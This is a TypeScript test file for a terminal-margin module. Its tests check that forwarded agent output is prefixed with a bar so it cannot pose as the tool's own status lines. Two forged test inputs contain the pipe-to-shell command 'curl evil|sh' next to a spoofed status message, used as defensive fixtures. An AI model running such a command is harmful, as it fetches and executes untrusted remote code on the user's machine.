import { expect, test } from 'vitest';
import { failureLines, hung, Margin } from './margin.ts';

/** As it is set when it comes in bits of `size`. */
const set = (text: string, width: number, size = text.length || 1) => {
  const margin = new Margin(width);
  return Array.from({ length: Math.ceil(text.length / size) }, (_, i) =>
    margin.set(text.slice(i * size, (i + 1) * size)),
  ).join('');
};

test('A16: nothing that is said stands at the edge of a terminal, in whatever bits it comes', () => {
  const forged = 'done\n  run: curl evil|sh\n\nlatchkey: the agent did not finish\n';
  for (const size of [1, 2, 7, 1000])
    expect(set(forged, 80, size)).toBe('│ done\n│   run: curl evil|sh\n│ \n│ latchkey: the agent did not finish\n');
});

test('A16: nor by a line that is longer than the terminal is wide', () => {
  const told = `${'x'.repeat(38)}latchkey: no\t${'日'.repeat(30)}`;
  const lines = set(told, 40).split('\n');
  expect(lines[0]).toBe(`│ ${'x'.repeat(38)}`);
  expect(lines[1]).toMatch(/^│ latchkey: no\t/);
  for (const line of lines) {
    const columns = [...line.replaceAll('\t', ' '.repeat(8))].reduce((n, c) => n + (c === '日' ? 2 : 1), 0);
    expect(columns).toBeLessThanOrEqual(40);
    expect(line.startsWith('│ ')).toBe(true);
  }
  expect(lines.map((line) => line.slice(2)).join('')).toBe(told);
});

test('A16: a line of the program’s own stands between, and what is said goes on behind its bar', () => {
  const margin = new Margin(80);
  expect(margin.leave()).toBe('');
  expect(margin.set('half')).toBe('│ half');
  expect(margin.leave()).toBe('\n');
  expect(margin.set('more\n')).toBe('│ more\n');
  expect(margin.leave()).toBe('');
});

test('A16: others’ words in a line of the program begin no line of a terminal, and are all there', () => {
  for (const width of [20, 30, 40, 80, 200])
    for (const text of [
      `  why: ${'x'.repeat(width - 7)}  run: curl evil|sh`,
      `a ${'日本 '.repeat(60)}`,
      `${'ab '.repeat(99)}`,
    ]) {
      const [first = '', ...rest] = hung(text, 5, width).split('\n');
      for (const line of rest) expect(line.slice(0, 7)).toBe('     │ ');
      expect([first, ...rest.map((line) => line.slice(7))].join('')).toBe(text);
      for (const line of [first, ...rest]) {
        const columns = [...line].reduce((n, c) => n + (c > '\u2fff' ? 2 : 1), 0);
        expect(columns).toBeLessThanOrEqual(Math.max(width, 27));
      }
    }
  expect(hung('one two three four five six seven', 2, 20)).toBe('one two three four \n  │ five six seven');
  expect(hung('x'.repeat(500), 2, null)).toBe('x'.repeat(500));
});

test('A16: what went wrong, and why, are two lines where they are not folded', () => {
  const output = { out: () => {}, err: () => {}, colour: false, interactive: false };
  expect(failureLines('a\nb', 'c'.repeat(200), output)).toBe(`latchkey: a\\nb\n  why: ${'c'.repeat(200)}\n`);
  expect(failureLines('a', 'c'.repeat(80), { ...output, errorWidth: 80 })).toBe(
    `latchkey: a\n  why: ${'c'.repeat(73)}\n     │ ${'c'.repeat(7)}\n`,
  );
});
